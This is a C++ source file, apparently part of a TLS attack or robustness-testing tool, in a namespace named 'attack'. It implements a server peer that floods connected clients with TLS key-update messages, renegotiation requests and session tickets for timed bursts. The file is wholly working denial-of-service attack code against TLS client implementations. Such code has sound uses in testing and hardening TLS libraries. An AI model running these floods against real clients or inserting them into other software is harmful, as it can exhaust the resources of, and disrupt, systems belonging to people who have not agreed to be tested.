#include "TlsPeer.h"

#include <array>
#include <chrono>
#include <stdexcept>

namespace kova::attack {
namespace {

constexpr std::chrono::seconds kFlood(5);
constexpr std::chrono::seconds kPreparation(3);

}  // namespace

TlsPeer::TlsPeer(engine::Connection& connection, const engine::Identity& identity, int version)
    : connection_(connection), context_(SSL_CTX_new(TLS_server_method())) {
  if (version != 0) {
    SSL_CTX_set_min_proto_version(context_.get(), version);
    SSL_CTX_set_max_proto_version(context_.get(), version);
  }
  if (SSL_CTX_use_certificate(context_.get(), identity.certificate.get()) != 1 ||
      SSL_CTX_use_PrivateKey(context_.get(), identity.key.get()) != 1) {
    throw std::runtime_error("OpenSSL does not take the certificate");
  }
  session_.reset(SSL_new(context_.get()));
  SSL_set_fd(session_.get(), connection.descriptor());
}

bool TlsPeer::readHead() {
  std::string received;
  std::array<char, 4096> chunk{};
  while (received.find("\r\n\r\n") == std::string::npos) {
    const int got = SSL_read(session_.get(), chunk.data(), chunk.size());
    if (got <= 0) {
      return false;
    }
    received.append(chunk.data(), static_cast<std::size_t>(got));
  }
  return true;
}

bool TlsPeer::send(const std::string& text) {
  return SSL_write(session_.get(), text.data(), static_cast<int>(text.size())) > 0;
}

void TlsPeer::awaitClose() {
  std::array<char, 4096> chunk{};
  while (SSL_read(session_.get(), chunk.data(), chunk.size()) > 0) {
  }
}

template <typename Queue>
void TlsPeer::flood(Queue queue, std::chrono::seconds limit) {
  const auto end = std::chrono::steady_clock::now() + limit;
  while (std::chrono::steady_clock::now() < end && queue(session_.get()) == 1 &&
         SSL_do_handshake(session_.get()) == 1) {
  }
}

void TlsPeer::floodKeyUpdates(bool answered) {
  BIO* const pile = BIO_new(BIO_s_mem());
  SSL_set0_wbio(session_.get(), pile);
  const int kind = answered ? SSL_KEY_UPDATE_REQUESTED : SSL_KEY_UPDATE_NOT_REQUESTED;
  flood([kind](SSL* session) { return SSL_key_update(session, kind); }, kPreparation);
  char* records = nullptr;
  const long size = BIO_get_mem_data(pile, &records);
  connection_.send({records, static_cast<std::size_t>(size)});
}

void TlsPeer::floodRenegotiations() {
  flood([](SSL* session) { return SSL_renegotiate(session); }, kFlood);
}

void TlsPeer::floodTickets() {
  flood([](SSL* session) { return SSL_new_session_ticket(session); }, kFlood);
}

}  // namespace kova::attack
